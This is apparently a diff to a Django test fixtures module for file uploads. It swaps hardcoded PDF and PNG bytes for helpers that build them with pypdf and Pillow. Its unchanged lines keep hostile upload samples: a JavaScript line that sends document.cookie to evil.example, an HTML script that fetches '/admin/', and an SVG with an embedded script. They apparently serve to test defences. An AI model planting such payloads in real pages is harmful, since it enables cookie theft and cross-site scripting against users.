@@ -5,12 +5,33 @@ import zipfile
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 
-PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
-PNG = bytes.fromhex(
-    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
-    "1f15c4890000000d49444154789c6300010000050001"
-    "0d0a2db40000000049454e44ae426082"
-)
+
+def pdf(build=None) -> bytes:
+    """A one-page PDF written by pypdf (byte-identical between runs); ``build(writer)`` may add to it."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    if build is not None:
+        build(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+PDF = pdf()
+
+
+def image(fmt: str = "PNG", size=(2, 2), **options) -> bytes:
+    """A small image written by Pillow (PNG, JPEG, GIF or WEBP)."""
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt, **options)
+    return buffer.getvalue()
+
+
+PNG = image("PNG")
 HTML = b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>"
 JS = b"document.location='https://evil.example/?c='+document.cookie;"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
